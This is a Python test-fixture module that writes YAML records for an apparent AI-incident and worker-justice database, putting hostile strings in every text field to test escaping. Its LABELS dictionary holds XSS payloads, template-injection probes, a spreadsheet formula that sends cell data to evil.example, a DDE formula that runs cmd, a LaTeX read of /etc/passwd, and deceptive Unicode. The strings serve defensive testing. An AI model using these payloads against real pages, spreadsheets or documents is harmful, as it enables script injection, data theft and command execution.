"""Records whose every text is hostile: what somebody might type, or plant in a source."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

import yaml

__all__ = ["LABELS", "OVERRIDE", "SLUGS", "write_world"]

OVERRIDE: Final = "\u202e"
"""The right-to-left override, which turns round whatever follows it."""

LABELS: Final = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '"\' onmouseover=alert(1) autofocus onfocus=alert(1) x="`><svg onload=alert(1)>',
    "end": "]]> --> */ </title></style></textarea></script><script>alert(1)</script> <!--",
    "template": "{{ 7 * 7 }} {% raw %} ${alert(1)} <%= 7 * 7 %> #{7 * 7} %s %n {0}",
    "override": f"{OVERRIDE}work ghost \u2067\u0627\u0644\u0639\u0645\u0644 \u05e8\u05d5\u05d7",
    "zero-width": "zero\u200bwidth\u200d\u2060joined\u00ad\ufeffand\u034f\u115f\u3164hidden",
    "emoji": "\U0001f469\U0001f3fd\u200d\U0001f4bb e\u0301\u0323 Z\u0338\u0322\u034ea\u0337l",
    "formula": '=HYPERLINK("https://evil.example/?"&A1;"click")',
    "minus": "-1+cmd|' /C calc'!A0",
    "citation": "\\input{/etc/passwd}} {\\% $ & # _ ^ ~ @article{x, title = {y}}, \\\\",
    "lines": "one line\nER  - \n\nTY  - JOUR\nURL:https://evil.example/\n\tand a tab",
    "address": "javascript:alert(1)//https://evil.example/?a=1&b=<2>#é",
    "word": "W" * 10_000,
    "long": "ghost work and " * 660 + "no end",
}
SLUGS: Final = tuple(LABELS)
SOURCE: Final = {"source": "script-source"}
IN_THE_TEXT: Final = "https://example.org/?a=1&b=%3Cscript%3E&c='%22"

NUMBERED: Final = """\
id: aiid-123
type: Incident
title: {en: A risk score denies patients pain relief}
year: 2012
justiceArea: [disability-justice]
notStated: [impact, summary]
source: script-source
modified: 2026-11-22
"""
"""A plain issue that has the number of a database, as an importer writes it."""


def write_world(folder: Path) -> Path:
    """Write the records, one file for each label, and one that is plain; return their folder."""
    folder.mkdir(parents=True)
    for slug, label in LABELS.items():
        text = yaml.safe_dump_all(_records(slug, label), allow_unicode=True, sort_keys=False)
        (folder / f"{slug}.yaml").write_text(text, encoding="utf-8")
    (folder / "aiid-123.yaml").write_text(NUMBERED, encoding="utf-8")
    return folder


def _records(slug: str, label: str) -> Iterator[dict[str, Any]]:
    """Yield one record of each kind with a label wherever a text is, and an issue that has all."""
    yield _source(slug, label)
    yield _actor(slug, label)
    yield _workers(slug, label)
    yield _system(slug, label)
    yield _issue(slug, label)
    yield {
        "id": f"{slug}-gone",
        "type": "Tombstone",
        "formerType": "Incident",
        "withdrawalReason": label,
        "modified": "2026-11-22",
    }


def _source(slug: str, label: str) -> dict[str, Any]:
    return {
        "id": f"{slug}-source",
        "type": "Source",
        "title": label,
        "sourceKind": "news-article",
        "url": f"{IN_THE_TEXT}&record={slug}",
        "archive": IN_THE_TEXT,
        "publisher": f"{slug}-actor",
        "publishedYear": "2021",
        "modified": "2026-11-22",
    }


def _actor(slug: str, label: str) -> dict[str, Any]:
    return {
        "id": f"{slug}-actor",
        "type": "Organization",
        "name": label,
        "alias": f"also {label}",
        "description": label,
        "kind": "company",
        "place": "kenya",
        "homepage": IN_THE_TEXT,
        "figure": _figure(label),
        **SOURCE,
        "modified": "2026-11-22",
    }


def _workers(slug: str, label: str) -> dict[str, Any]:
    return {
        "id": f"{slug}-group",
        "type": "WorkerGroup",
        "name": label,
        "description": label,
        "task": ["content-moderation", "data-labelling"],
        "arrangement": "subcontracting",
        "condition": ["low-wages"],
        "place": "kenya",
        "figure": _figure(label),
        **SOURCE,
        "modified": "2026-11-22",
    }


def _system(slug: str, label: str) -> dict[str, Any]:
    claim = {"claim": label, "workerGroup": f"{slug}-group", **SOURCE}
    links = {
        "#client": {"from": f"{slug}-actor", "to": "script-actor", "linkKind": "client-to-vendor"},
        "#workers": {
            "from": "script-actor",
            "toWorkers": f"{slug}-group",
            "linkKind": "vendor-to-workers",
        },
    }
    return {
        "id": f"{slug}-system",
        "type": "AISystem",
        "name": label,
        "description": label,
        "developedBy": f"{slug}-actor",
        "automationClaim": {"#claim": claim},
        "labourLink": {name: {**link, **SOURCE} for name, link in links.items()},
        **SOURCE,
        "modified": "2026-11-22",
    }


def _issue(slug: str, label: str) -> dict[str, Any]:
    by = {"assertion": "reported", "source": f"{slug}-source"}
    response = {
        "responseKind": "demand",
        "by": "script-actor",
        "workerGroup": f"{slug}-group",
        "addressee": [f"{slug}-actor"],
        "demands": ["paid-leave"],
        "year": "2022",
        "description": label,
        "outcome": label,
        "source": f"{slug}-source",
    }
    return {
        "id": f"{slug}-issue",
        "type": "Incident",
        "title": {"en": label, "sw": label},
        "summary": label,
        "year": "2021",
        "sector": "professional-services",
        "status": "ended",
        "justiceArea": ["economic-justice", "racial-justice"],
        "impact": ["exploitation-of-workers"],
        "affectedGroup": "low-paid-people",
        "place": ["kenya", "global-south"],
        "system": f"{slug}-system",
        "workerGroup": f"{slug}-group",
        "involvement": {"#vendor": {"actor": f"{slug}-actor", "role": "vendor", **by}},
        "figure": _figure(label),
        "response": {"#demand": response},
        "source": f"{slug}-source",
        "modified": "2026-11-22",
    }


def _figure(label: str) -> dict[str, Any]:
    return {
        "#figure": {"value": "200", "unit": "people", "counts": label, "asOf": "2021", **SOURCE}
    }
